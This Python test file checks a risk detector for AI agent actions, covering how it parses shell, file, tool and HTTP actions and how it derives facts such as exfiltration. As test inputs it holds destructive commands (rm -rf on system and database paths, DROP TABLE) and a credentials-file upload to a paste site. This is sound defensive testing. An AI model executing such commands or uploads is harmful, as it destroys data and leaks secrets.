"""The detector's parts, each on its own (risk/subjects.py, facts.py, judge.py): what the
action says in which view, what facts follow from effects, which rules a command meets."""

from __future__ import annotations

from magistrate import Action, RiskDetector
from magistrate.rule_match import Context


def _views(detector: RiskDetector, action: Action) -> list[tuple[str, str, str]]:
    ctx = detector._reader.read(action)
    return [(s.view, s.origin, s.text) for s in ctx.subjects]


def test_a_shell_command_is_one_shell_subject(detector: RiskDetector) -> None:
    assert _views(detector, Action(kind="shell", text="ls -la")) == [("shell", "text", "ls -la")]


def test_cmd_carets_are_removed_before_reading(detector: RiskDetector) -> None:
    assert _views(detector, Action(kind="shell", text="c^m^d /c dir")) == [
        ("shell", "text", "cmd /c dir")
    ]


def _shell_of_written(detector: RiskDetector, path: str, content: str) -> list[str]:
    """The shell views of a file written at `path`."""
    action = Action(kind="file", text=f"write {path}", args={"path": path, "content": content})
    return [text for view, origin, text in _views(detector, action) if view == "shell"]


def test_a_script_file_written_is_read_as_commands(detector: RiskDetector) -> None:
    shell = _shell_of_written(detector, "deploy.sh", "set -e\nrm -rf /srv/app\n")
    assert shell == ["set -e\nrm -rf /srv/app\n"]  # a shell script is shell throughout


def test_a_makefile_written_is_read_by_its_recipes(detector: RiskDetector) -> None:
    shell = _shell_of_written(detector, "Makefile", "clean:\n\trm -rf build/\n")
    assert shell == ["rm -rf build/"]


def test_a_data_file_written_is_data_not_commands(detector: RiskDetector) -> None:
    action = Action(
        kind="file", text="write notes.txt", args={"path": "notes.txt", "content": "rm -rf /"}
    )
    views = {(view, origin) for view, origin, _ in _views(detector, action)}
    assert ("data", "args.content") in views
    assert not any(view == "shell" for view, _ in views)


def test_arguments_are_read_by_their_role(detector: RiskDetector) -> None:
    action = Action(
        kind="tool",
        tool="run_query",
        args={"query": "DROP TABLE users", "url": "https://example.org/x"},
    )
    views = {origin: view for view, origin, _ in _views(detector, action)}
    assert views["args.query"] == "sql"
    assert views["args.url"] == "url"
    assert views["tool"] == "tool"


def test_a_question_about_a_command_runs_nothing(detector: RiskDetector) -> None:
    action = Action(kind="prompt", text="What does rm -rf do?")
    assert [v for v, _, _ in _views(detector, action)] == ["text"]


def test_verb_ops_are_remembered_and_fresh_lists(detector: RiskDetector) -> None:
    first = detector._reader.verb_ops("delete file")
    first.append("changed by a caller")
    assert detector._reader.verb_ops("delete file") == ["delete"]


def _derived(detector: RiskDetector, action: Action) -> Context:
    ctx = detector._reader.read(action)
    detector._scan([ctx])
    detector._fact_deriver.derive(ctx)
    return ctx


def test_an_http_post_sends_to_its_url(detector: RiskDetector) -> None:
    ctx = _derived(detector, Action(kind="http", text="POST https://api.example.org/v1/items"))
    assert [(e.op, e.target) for e in ctx.effects] == [("send", "https://api.example.org/v1/items")]


def test_a_secret_read_and_a_send_make_exfiltration(detector: RiskDetector) -> None:
    action = Action(
        kind="tool",
        tool="upload_file",
        args={"path": "/home/me/.aws/credentials", "url": "https://paste.example/new"},
    )
    ctx = _derived(detector, action)
    assert "exfiltration" in ctx.facts
    assert ctx.facts["exfiltration"].endswith("https://paste.example/new")


def test_a_read_alone_is_no_exfiltration(detector: RiskDetector) -> None:
    action = Action(kind="tool", tool="read_file", args={"path": "/home/me/.aws/credentials"})
    assert "exfiltration" not in _derived(detector, action).facts


def test_shell_rules_are_met_by_the_command_they_name(detector: RiskDetector) -> None:
    judge = detector._rule_judge
    rm_rules = {cr.rule.id for cr in judge._shell_candidates("rm")}
    ls_rules = {cr.rule.id for cr in judge._shell_candidates("ls")}
    named_rm = {cr.rule.id for cr in judge._shell_by_name.get("rm", ())}
    assert named_rm and named_rm <= rm_rules
    assert not named_rm & ls_rules - {cr.rule.id for cr in judge._shell_any}
    assert judge._shell_candidates("rm") is judge._shell_candidates("rm")  # built once


def test_the_judge_answers_the_assessment(detector: RiskDetector) -> None:
    ctx = _derived(detector, Action(kind="shell", text="rm -rf /var/lib/postgresql"))
    for subj in ctx.subjects:  # the shell analysis the detector runs before judging
        if subj.view == "shell":
            result = detector.shell.analyze(subj.text)
            ctx.invocations.extend(result.invocations)
            ctx.effects.extend(result.effects)
    assessment = detector._rule_judge.judge(ctx)
    assert "delete-system-or-data" in assessment.rule_ids
    assert assessment.level == detector.assess(ctx.action).level


SHARED_PATTERN = r"""
name: shared
articles:
  - {id: a1, number: 1, title: First, text: The first article.}
rules:
  - id: first-reader
    article: a1
    risk: HIGH
    match: {patterns: ['\bfrobnicate\b'], in: [shell, text]}
    examples: {match: ['frobnicate now'], no_match: ['ls']}
  - id: second-reader
    article: a1
    risk: MEDIUM
    match: {patterns: ['\bfrobnicate\b'], unless: ['\bdry\b'], in: [shell, text]}
    examples: {match: ['frobnicate now'], no_match: ['frobnicate --dry']}
  - id: dry-reader
    article: a1
    risk: LOW
    match: {patterns: ['\bdry\b'], in: [shell]}
    examples: {match: ['x --dry'], no_match: ['ls']}
"""


def test_an_expression_rules_share_is_scanned_once_and_counts_for_each() -> None:
    from magistrate.constitution import parse_constitution
    from magistrate.constitution.loader import pattern_groups, pattern_table

    loaded = parse_constitution(SHARED_PATTERN)
    table = pattern_table(loaded.model)
    groups = [positions for _, positions in pattern_groups(table)]
    # The rules' four patterns are two expressions (the secret detectors follow them).
    assert [p for _, _, p, _ in table[:4]] == [r"\bfrobnicate\b"] * 2 + [r"\bdry\b"] * 2
    assert (0, 1) in groups and (2, 3) in groups and len(groups) == len(table) - 2
    detector = RiskDetector(loaded)
    script = {"path": "deploy.sh", "content": "frobnicate now\n"}
    for action in (  # one subject, and several (the general scan: a file's views)
        Action(kind="shell", text="frobnicate now"),
        Action(kind="file", text="write deploy.sh", args=script),
    ):
        assert set(detector.assess(action).rule_ids) == {"first-reader", "second-reader"}
    # The shared `\bdry\b` is one rule's pattern and another's exception: both readings hold.
    both = detector.assess(Action(kind="shell", text="frobnicate --dry"))
    assert set(both.rule_ids) == {"first-reader", "dry-reader"}
